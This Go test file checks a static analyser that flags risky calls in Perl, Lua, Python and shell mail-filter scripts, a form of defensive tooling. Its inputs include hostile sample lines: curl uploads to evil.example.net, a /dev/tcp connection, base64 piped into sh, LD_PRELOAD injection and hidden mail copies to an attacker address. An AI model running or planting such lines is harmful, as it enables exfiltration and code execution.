package calls_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"waxseal"
	"waxseal/internal/calls"
)

var vocabulary = calls.Words{
	"add_recipient":   {Kind: waxseal.KindCopy, Effects: []waxseal.Effect{waxseal.Copy}, Target: waxseal.TargetAddress},
	"action_discard":  {Kind: waxseal.KindDiscard, Effects: []waxseal.Effect{waxseal.Drop}, Target: waxseal.TargetText},
	"odkim.add_rcpt":  {Kind: waxseal.KindCopy, Effects: []waxseal.Effect{waxseal.Copy}, Target: waxseal.TargetAddress},
	":set_pre_result": {Kind: waxseal.KindDiscard, Effects: []waxseal.Effect{waxseal.Drop}, Target: waxseal.TargetText},
}

// told writes calls as "line name target", one each.
func told(lang calls.Language, text string, words calls.Words) []string {
	list := []string{}
	for _, c := range calls.Find(lang, text, words) {
		list = append(list, fmt.Sprintf("%d %s %s %s %s", c.Line, c.Name, c.Kind, c.Target.Type, c.Target.Value))
	}
	return list
}

func TestPerl(t *testing.T) {
	for _, tc := range []struct {
		name, text string
		want       []string
	}{
		{"system", "system('id > /tmp/x'); `id -u`; system('/tmp/id');", []string{"1 system expansion_exec command id > /tmp/x", "1 ` expansion_exec command id -u", "1 system expansion_exec command /tmp/id"}},
		{"system of a list", "system 'curl', '-T', $file, \"http://x/\" or die;", []string{"1 system expansion_exec command curl -T $file http://x/"}},
		{"on another line", "\n\nsystem(\n  q{id}\n);", []string{"3 system expansion_exec command id"}},
		{"the language's own", "CORE::system('id')", []string{"1 CORE::system expansion_exec command id"}},
		{"words", "exec qw(curl -T x)   ;", []string{"1 exec expansion_exec command curl -T x"}},
		{"backticks", "my $x = `id -u`;", []string{"1 ` expansion_exec command id -u"}},
		{"qx", "qx{id (a)}; qx'uname'; $x = `hostname --fqdn`; chomp($y = `head -n 1 /etc/mailname`); `head x > /tmp/y`;", []string{"1 ` expansion_exec command id (a)", "1 ` expansion_exec command uname", "1 ` expansion_exec command head x > /tmp/y"}},
		{"qx with an odd mark", "qx=id=;", []string{"1 ` expansion_exec command id"}},
		{"here-document that runs", "print <<`E`;\nid\nE\nsystem('w');", []string{"1 ` expansion_exec command id", "4 system expansion_exec command w"}},
		{"here-document of text", "print <<E, <<'F';\nsystem('id')\nE\nexec('id')\nF\n", []string{}},
		{"in a comment", "# system('id')\n1; # `id`", []string{}},
		{"in documentation", "=head1 X\n\nsystem('id')\n\n=cut\n\nsystem('w');", []string{"7 system expansion_exec command w"}},
		{"behind the end", "1;\n__END__\nsystem('id')", []string{}},
		{"in strings", `$x = "system('id')"; $y = 'exec "id"'; $z = q(system("a") and b); @w = qw(system exec); s/system('a')/b/; tr/system/abcdef/;`, []string{}},
		{"a definition, a key, a method", "sub system { 1 } $h{system} = 1; %h = (exec => 1, system => 'x'); $o->system('id');", []string{}},
		{"in a string that expands", `$x = "a@{[ system('id') ]}b${\ exec('w') }";`, []string{"1 system expansion_exec command id", "1 exec expansion_exec command w"}},
		{"prose in a string that expands", `$x = "run system('id') for ${name}";`, []string{}},
		{"in a substitution", "s/a/system('id')/e;", []string{"1 system expansion_exec command id"}},
		{"in a pattern", `m/a(?{ system("id") })/;`, []string{"1 system expansion_exec command id"}},
		{"division is no pattern", "$x = $y / 2; system('id'); $z = 4 / 2;", []string{"1 system expansion_exec command id"}},
		{"list operator behind a brace", "if ($x) { system 'id' }", []string{"1 system expansion_exec command id"}},
		{"files copied, linked and renamed", "use File::Copy qw(copy);\ncopy('./INPUTMSG', '/srv/a/' . $id);\nlink(\"./INPUTMSG\", \"/var/tmp/$id\");\nrename 'x', '/home/bob/y';\nFile::Copy::move($a, \"/var/lib/x/.q/$id\");\nmv($a, $b); copy($x, '/var/spool/x/y'); rename('a', 'b');",
			[]string{"2 copy copy file /srv/a/", "3 link copy file /var/tmp/", "4 rename copy file /home/bob/y", "5 File::Copy::move copy file /var/lib/x/.q/"}},
		{"a function of the program's own", "sub copy { 1 } copy('a', '/srv/b');", []string{}},
		{"files whose names are worked out", "open($f, '>', \"/dev/shm/$id\"); open($f, '>>', \"/var/spool/x/$id\"); open($f, '>', \"$dir/x\"); open($f, '<', \"/srv/$x\");", []string{"1 open copy file /dev/shm/"}},
		{"worked out", "system($cmd . ' x');", []string{"1 system expansion_exec text system($cmd . ' x')"}},
		{"variable that is set once", "my $c = 'cur' . 'l'; my $u = $c; system($c, $u);", []string{"1 system expansion_exec command curl curl"}},
		{"variable that is set twice", "my $c = 'ls'; $c = 'id'; system($c);", []string{"1 system expansion_exec text system($c)"}},
		{"pipes", `open(F, "|sh"); open(my $f, '-|', 'id', '-u'); open F, "cat $x|"; open(F, "<$x"); open(F, $x);`,
			[]string{"1 open expansion_exec command sh", "1 open expansion_exec command id -u", "1 open expansion_exec command cat $x"}},
		{"files written", `open(F, ">>/tmp/x"); open(my $f, '>', "/var/tmp/y"); open(F, ">$x"); open(my $f, '<', '/etc/passwd');`,
			[]string{"1 open copy file /tmp/x", "1 open copy file /var/tmp/y"}},
		{"eval", "eval { f() }; eval 'require X::Y'; eval $code; eval \"$a$b\";", []string{"1 eval module text eval $code", `1 eval module text eval "$a$b"`}},
		{"do and require", "require X::Y; require 5.8.0; do { 1 }; do '/tmp/x.pl'; require '/opt/y.pl'; use lib '/tmp/l'; use lib '/usr/share/perl5';",
			[]string{"1 do module file /tmp/x.pl", "1 require module file /opt/y.pl", "1 use lib module file /tmp/l"}},
		{"symbolic", `&{"sys"."tem"}('id'); &$f(1); &system('a'); ${"x"} = 1; @{$y} = %{$z};`, []string{`1 & module text &{"sys"."tem"}`, "1 system expansion_exec command a", `1 $ module text ${"x"}`}},
		{"socket", `my $s = IO::Socket::INET->new(PeerAddr => '203.0.113.9', PeerPort => 25);`, []string{"1 IO::Socket::INET->new policy host 203.0.113.9:25"}},
		{"indirect object", `new Net::SMTP('mx.evil.example.net')`, []string{"1 Net::SMTP policy host mx.evil.example.net"}},
		{"use of a class", "use LWP::UserAgent; use Net::SMTP;", []string{}},
		{"URL beside a method", `$ua->post("https://evil.example.net/x", Content => $m); print "http://a.example/";`, []string{"1 $ua->post policy host evil.example.net:443"}},
		{"environment", `$ENV{LD_PRELOAD} = '/tmp/x.so'; $ENV{'PATH'} = '/usr/bin:/bin'; $ENV{LANG} = 'C';`, []string{"1 $ENV environment text LD_PRELOAD=/tmp/x.so"}},
		{"words of the caller", "add_recipient('drop@evil.example.net'); add_recipient($x); action_discard();\nreturn action_discard;",
			[]string{"1 add_recipient copy address drop@evil.example.net", "1 add_recipient copy text add_recipient($x)", "1 action_discard discard text action_discard()", "2 action_discard discard text action_discard"}},
		{"address put together", `my $d = 'evil.example.net'; add_recipient('drop@' . $d);`, []string{"1 add_recipient copy address drop@evil.example.net"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if d := cmp.Diff(tc.want, told(calls.Perl, tc.text, vocabulary)); d != "" {
				t.Error(d)
			}
		})
	}
}

func TestLua(t *testing.T) {
	for _, tc := range []struct {
		name, text string
		want       []string
	}{
		{"os.execute", "os.execute('id')\nio.popen \"id\"", []string{"1 os.execute expansion_exec command id", "2 io.popen expansion_exec command id"}},
		{"long string", "os.execute[[\ncurl x]]", []string{"1 os.execute expansion_exec command curl x"}},
		{"by index", "os['execute']('id'); _G.os.execute('w')", []string{"1 os.execute expansion_exec command id", "1 os.execute expansion_exec command w"}},
		{"comments", "-- os.execute('id')\n--[[ os.execute('id')\n]] --[==[ a ]] os.execute('x') ]==]\nos.execute('w')", []string{"4 os.execute expansion_exec command w"}},
		{"strings", `local x = "os.execute('id')" local y = [[os.execute('id')]]`, []string{}},
		{"definition", "function os.execute(x) end", []string{}},
		{"alias", "local ex = os.execute\nex('id')", []string{"1 os.execute expansion_exec text os.execute", "2 ex expansion_exec command id"}},
		{"files", "io.open('/tmp/x', 'a') io.open('/etc/x') io.open('/etc/y', 'r')", []string{"1 io.open copy file /tmp/x"}},
		{"code", "dofile('/tmp/x.lua') load(s)() loadstring(a..b)", []string{"1 dofile module file /tmp/x.lua", "1 load module text load(s)", "1 loadstring module text loadstring(a..b)"}},
		{"require", `local l = require "rspamd_logger" require(x) require("/tmp/x")`, []string{"1 require module text require(x)", "1 require module file /tmp/x"}},
		{"library", `local http = require("socket.http") http.request("http://evil.example.net/")`, []string{"1 http.request policy host evil.example.net:80"}},
		{"URL in a table", `rspamd_http.request({ task = t, url = 'http://203.0.113.9:8080/x' })`, []string{"1 rspamd_http.request policy host 203.0.113.9:8080"}},
		{"search path", "package.path = '/tmp/?.lua;' .. package.path", []string{"1 package.path module text package.path = '/tmp/?.lua;' .. package.path"}},
		{"words of the caller", "odkim.add_rcpt(ctx, 'drop@evil.example.net') task:set_pre_result('discard')",
			[]string{"1 odkim.add_rcpt copy address drop@evil.example.net", "1 task:set_pre_result discard text task:set_pre_result('discard')"}},
		{"escapes", `os.execute("\105\100")`, []string{"1 os.execute expansion_exec command id"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if d := cmp.Diff(tc.want, told(calls.Lua, tc.text, vocabulary)); d != "" {
				t.Error(d)
			}
		})
	}
}

func TestPython(t *testing.T) {
	for _, tc := range []struct {
		name, text string
		want       []string
	}{
		{"os.system", "import os\nos.system('id')", []string{"2 os.system expansion_exec command id"}},
		{"subprocess", "subprocess.run(['curl', '-T', f, url], shell=False)", []string{"1 subprocess.run expansion_exec command curl -T f url"}},
		{"alias", "import subprocess as s\nfrom os import system as run, popen\ns.call('id')\nrun('w')\npopen('x')",
			[]string{"3 s.call expansion_exec command id", "4 run expansion_exec command w", "5 popen expansion_exec command x"}},
		{"all names", "from os import *\nsystem('id')", []string{"2 system expansion_exec command id"}},
		{"strings and comments", "'''os.system('id')'''\n\"\"\"\nos.system('a')\"\"\"\nx = \"os.system('id')\" # os.system('id')\n", []string{}},
		{"f-string", "x = f\"{os.system('id')} {y}\"", []string{"1 os.system expansion_exec command id"}},
		{"definition", "def eval(x):\n  pass\nclass exec: pass", []string{}},
		{"files", "open('/tmp/x', 'a'); open('/tmp/y'); open('/tmp/z', mode='wb')", []string{"1 open copy file /tmp/x", "1 open copy file /tmp/z"}},
		{"network", "requests.post('https://evil.example.net/', data=m)\nsmtplib.SMTP('mx.evil.example.net', 25)\nsocket.create_connection(('203.0.113.9', 25))",
			[]string{"1 requests.post policy host evil.example.net:443", "2 smtplib.SMTP policy host mx.evil.example.net:25", "3 socket.create_connection policy host 203.0.113.9:25"}},
		{"code", "eval(x)\n__import__('os').system('id')", []string{"1 eval module text eval(x)", "2 __import__ module text __import__('os')"}},
		{"joined lines", "os.\\\nsystem('id')", []string{"1 os.system expansion_exec command id"}},
		{"environment", "os.environ['LD_PRELOAD'] = '/tmp/x.so'", []string{"1 environ environment text LD_PRELOAD=/tmp/x.so"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if d := cmp.Diff(tc.want, told(calls.Python, tc.text, vocabulary)); d != "" {
				t.Error(d)
			}
		})
	}
}

func TestShell(t *testing.T) {
	for _, tc := range []struct {
		name, text string
		want       []string
	}{
		{"curl", "curl -T /x https://evil.example.net/", []string{"1 curl expansion_exec command curl -T /x https://evil.example.net/"}},
		{"behind others", "test -f /x && wget x; if true; then nc a 1; fi", []string{"1 wget expansion_exec command wget x", "1 nc expansion_exec command nc a 1"}},
		{"pipe into a shell", "base64 -d <<E | sh\nYQ==\nE\n", []string{"1 sh expansion_exec command sh"}},
		{"in a value", "OPTIONS=\"-x $(curl http://x/)\"\nA=`id; wget x`", []string{"1 curl expansion_exec command curl http://x/", "2 wget expansion_exec command wget x"}},
		{"comments and strings", "# curl x\necho 'curl x' \"a; curl x\" # ; curl x", []string{}},
		{"here-document", "cat <<E\ncurl x\n$(nc a 1)\nE\ncat <<'E'\n$(curl x)\nE\n", []string{"2 nc expansion_exec command nc a 1"}},
		{"connections", "exec 3<>/dev/tcp/203.0.113.9/25", []string{"1 <> policy host 203.0.113.9:25"}},
		{"files", "echo x > /tmp/x; echo y >/dev/null 2>&1; echo z >> /run/z", []string{"1 > copy file /tmp/x"}},
		{"odd places", "/tmp/x -a\n. /etc/default/x\n. /tmp/y", []string{"1 x expansion_exec command /tmp/x -a", "3 . expansion_exec command . /tmp/y"}},
		{"eval", "eval \"$x\"; eval", []string{`1 eval expansion_exec command eval "$x"`}},
		{"environment", "export LD_PRELOAD=/tmp/x.so\nPATH=/usr/bin:/bin\nPATH=/tmp:$PATH\nLANG=C", []string{"1 LD_PRELOAD environment text LD_PRELOAD=/tmp/x.so", "3 PATH environment text PATH=/tmp:$PATH"}},
		{"definition", "curl() { :; }", []string{}},
		{"quotes in the middle", `c"ur"l x; c\url y`, []string{"1 curl expansion_exec command c\"ur\"l x", `1 curl expansion_exec command c\url y`}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if d := cmp.Diff(tc.want, told(calls.Shell, tc.text, nil)); d != "" {
				t.Error(d)
			}
		})
	}
	every := calls.Words{"*": {Kind: waxseal.KindExpansionExec, Effects: []waxseal.Effect{waxseal.Execute}, Target: waxseal.TargetCommand}}
	want := []string{"2 > copy file /tmp/x", "4 chown expansion_exec command chown a b"}
	if d := cmp.Diff(want, told(calls.Shell, "A=b\nid > /tmp/x\n[ -f x ] && echo y\nchown a b", every)); d != "" {
		t.Error(d)
	}
}

func TestWhen(t *testing.T) {
	for text, want := range map[string]string{
		"action_discard();":                                      "",
		"if ($FoundVirus) { return action_discard(); }":          "$FoundVirus",
		"if ($a) { f($b) } elsif ($b =~ /x/) { action_discard }": "$b =~ /x/",
		"unless ($a) { action_discard() }":                       "not ($a)",
		"action_discard() if $hits > 5;":                         "$hits > 5",
		"if ($a) { for (@x) { action_discard() } }":              "",
	} {
		if got := calls.Find(calls.Perl, text, vocabulary); len(got) != 1 || got[0].When != want {
			t.Errorf("%s: %+v, want %q", text, got, want)
		}
	}
}

func TestBounds(t *testing.T) {
	if got := len(calls.Find(calls.Perl, strings.Repeat("system('id');\n", 5000), nil)); got != calls.Max {
		t.Errorf("%d calls are listed", got)
	}
}
